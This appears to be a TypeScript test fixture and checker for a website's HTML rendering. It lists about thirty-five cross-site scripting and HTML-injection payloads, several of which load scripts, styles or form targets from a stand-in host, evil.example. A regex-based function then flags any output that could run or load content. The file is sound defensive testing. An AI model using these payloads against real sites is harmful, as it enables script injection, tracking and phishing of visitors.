import { homeKitchen } from '@/components/blocks/home-hero/home-kitchen'
import { kitchenRules } from '@/components/blocks/home-hero/kitchen-rules'
import { builtInFinishes } from '@/lib/business/finish-list'

/** Inputs that would run, load or restyle something for the page's visitors. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(https://evil.example/p.png)">x</p>',
  '<style>body{display:none}</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=q><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p><!--><script>alert(1)</script>--></p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<table background="javascript:alert(1)" onclick=alert(1)><tr><td style="position:fixed" onmouseover=alert(1)>x</table>',
  '<table><tr><script>alert(1)</script><td><img src=x onerror=alert(1)></td></tr></table>',
  '<table><td></table><svg><td onload=alert(1)></table></table></div></section>',
  '<<script>script>alert(1)<</script>/script>',
  '</div></section><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  'javascript:alert(1)',
  ' \u0001javascript:alert(1)',
  'data:image/svg+xml,<svg onload=alert(1)>',
  '//evil.example/x.png',
  'https://evil.example/track.png',
  '/images/x.webp" onerror="alert(1)',
  '/images/../admin',
  'url(javascript:alert(1))',
  '\u2028alert(1)',
]

const allowedElements = new Set(
  (
    'a address article aside b blockquote br button dd details div dl dt em fieldset figcaption figure form g h1 h2 h3 header i ' +
    'image img input label legend li link nav ol p path picture polyline line rect s section source span strong summary sup svg template textarea u ul ' +
    'caption circle hr option select table tbody td text th thead time tr tspan'
  ).split(' '),
)

// The first picture of the home page brings its own style sheet. No other one may be there.
const kitchenStyle = `<style>${kitchenRules(homeKitchen(builtInFinishes))}</style>`

/** Returns what in a piece of HTML could run, load from elsewhere or change the look; empty if nothing can. */
export function nothingRuns(html: string): string {
  const rest = html.replaceAll(kitchenStyle, '')
  const matches: string[] = []
  // A browser's own reading is needed to be sure; this reads tags as one does outside of raw text, which isn't allowed.
  for (const [tag, name = '', attributes = ''] of rest.matchAll(
    /<\/?([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi,
  )) {
    if (!allowedElements.has(name.toLowerCase())) matches.push(tag)
    // React asks for a large picture early.
    if (name === 'link' && !/rel="preload" as="image"/.test(tag)) matches.push(tag)
    for (const [attribute, key = '', value = ''] of attributes.matchAll(
      /([^\s=/"']+)(?:\s*=\s*"([^"]*)")?/g,
    )) {
      if (/^on/i.test(key) || key === 'srcdoc') matches.push(attribute)
      if (
        /^(?:href|src|action|formaction|xlink:href)$/i.test(key) &&
        !/^(?:#|\/(?![/\\])|https?:|tel:|mailto:|sms:|$)/i.test(value)
      )
        matches.push(attribute)
      if (/^(?:src|srcset|action|formaction)$/i.test(key) && /evil/.test(value)) matches.push(attribute)
      if (
        key === 'style' &&
        /url|position|expression/i.test(value.replace(/^(?:object|background)-position/, ''))
      )
        matches.push(attribute)
    }
  }
  return matches.join('\n')
}
